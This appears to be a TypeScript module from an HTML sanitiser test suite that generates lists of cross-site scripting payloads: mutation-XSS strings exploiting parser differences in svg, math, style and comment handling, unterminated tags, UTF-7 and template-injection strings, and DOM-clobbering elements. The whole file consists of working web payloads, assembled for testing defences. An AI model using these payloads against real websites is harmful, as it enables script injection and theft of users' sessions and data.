/** HTML that two parsers read differently, that has no end, or that uses names which scripts look up. Part of {@link htmlPayloads}. */

/** HTML that the sanitising parser and the browser read differently. */
export function mutations(act: string): readonly string[] {
  const img = `<img src=x onerror="${act}">`;
  return [
    `<svg></p><style><a id="</style>${img}">`,
    `<math></p><style><!--</style>${img}--></style>`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;${img.replaceAll('"', '&quot;')}">`,
    `<form><math><mtext></form><form><mglyph><style></math>${img}`,
    `<svg><style>/*<a title="*/</style>${img}">`,
    `<noscript><style></noscript>${img}</style>`,
    `<template><script>${act}</script></template>`,
    `<template shadowrootmode=open><script>${act}</script>${img}</template>`,
    `<textarea><img title="</textarea>${img}"></textarea>`,
    `<title><img title="</title>${img}"></title>`,
    `<xmp><p title="</xmp>${img}"></xmp>`,
    `<noembed><img title="</noembed>${img}"></noembed>`,
    `<noframes><img title="</noframes>${img}"></noframes>`,
    `<plaintext>${img}`,
    `<listing>&lt;img src=x onerror=${act}&gt;</listing>`,
    `<p title="&lt;/p&gt;${img.replaceAll('"', '&quot;')}">x</p>`,
    `<a title="\`${img}\`">x</a>`,
    `<select><template><style><!--</style>${img}--></select>`,
    `<table><a href="javascript:${act}">x</table>`,
    `<a><p><a href="javascript:${act}">x</a></p></a>`,
    `<svg><desc><table>${img}</table></desc></svg>`,
    `<math><annotation-xml encoding="text/html"><style>${img}</style></annotation-xml></math>`,
    `<svg><title><style><img src="</style>${img}"></title></svg>`,
    `&lt;img src=x onerror="${act}"&gt;`,
    `&amp;lt;script&amp;gt;${act}&amp;lt;/script&amp;gt;`,
    `${'<div>'.repeat(600)}<math><mtext>${img}`,
    `<![CDATA[${img}]]>`,
    `<svg><![CDATA[${img}]]></svg>`,
    `<?xml version="1.0"?><?xml-stylesheet href="javascript:${act}"?>${img}`,
  ];
}

/** Tags without an end, and comments that end elsewhere. */
export function broken(act: string): readonly string[] {
  const img = `<img src=x onerror="${act}">`;
  return [
    `<!--><script>${act}</script>-->`,
    `<!---><script>${act}</script>-->`,
    `<!-- --!>${img}-->`,
    `<!--[if gte IE 4]><script>${act}</script><![endif]-->`,
    `<!${img}>`,
    `</${img}>`,
    `<img src=x onerror="${act}"`,
    `<img src="x\` onerror=${act} \`>`,
    `<p <img src=x onerror="${act}">`,
    `<p title='"><script>${act}</script>'>x`,
    `<p/title="x>${img}">`,
    `<=${img}`,
    `<%${img}`,
    `< script>${act}</ script>`,
    `<p =x="${img.replaceAll('"', '&quot;')}">`,
    `\u2028<script>${act}</script>`,
    `\ufeff<script>${act}</script>`,
    `\u00bcscript\u00bealert(1)\u00bc/script\u00be`,
    `+ADw-script+AD4-alert(1)+ADw-/script+AD4-`,
    `{{constructor.constructor('alert(1)')()}}`,
    `\${alert(1)}`,
  ];
}

/** Names that scripts of a page may look up, and elements that could imitate a part of the page. */
export function clobbering(): readonly string[] {
  const names = [
    'root',
    'main-menu',
    'user-menu',
    'canaryName',
    'location',
    'attributes',
    'children',
    'body',
    'cookie',
    'getElementById',
    '__proto__',
  ];
  return [
    ...names.flatMap((name) => [`<p id="${name}">x</p>`, `<img name="${name}">`, `<form id="${name}"><input name=attributes><input name=id></form>`]),
    `<a id=canaryName><a id=canaryName name=href href="javascript:alert(1)">x</a>`,
    `<iframe name=canaryName srcdoc="<a id=x>"></iframe>`,
    `<object id=canaryName data=x></object>`,
    `<main role=main><h1>Another page</h1></main>`,
    `<slot name=x></slot><p slot=x part=y is=z>x</p>`,
  ];
}
